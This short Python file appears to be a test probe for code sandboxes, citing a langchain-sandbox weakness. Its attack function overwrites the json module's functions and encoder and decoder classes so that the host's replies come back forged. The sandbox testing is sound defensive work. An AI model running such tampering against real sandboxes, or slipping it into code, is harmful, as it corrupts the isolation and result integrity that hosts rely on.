# From: langchain-sandbox: the helpers that wrote the reply were a module that the guest could import and change.
# Ends: "honest" or "forged" or error exception or error result
# Ruins: replaces what may write its replies
import json
import json.decoder
import json.encoder
import json.scanner


def forged(*_, **__):
    return '"forged"'


def attack(probe):
    for holder in (json, json.encoder, json.decoder, json.scanner):
        for name in ("dumps", "loads", "c_make_encoder", "c_make_scanner", "encode_basestring", "encode_basestring_ascii", "c_encode_basestring_ascii", "scanstring", "py_scanstring", "make_scanner"):
            if hasattr(holder, name):
                setattr(holder, name, forged)
    for kind in (json.JSONEncoder, json.JSONDecoder):
        for name in ("encode", "iterencode", "default", "decode", "raw_decode", "__call__", "__init__"):
            setattr(kind, name, forged)
    json._default_encoder = json._default_decoder = forged
    return "honest"
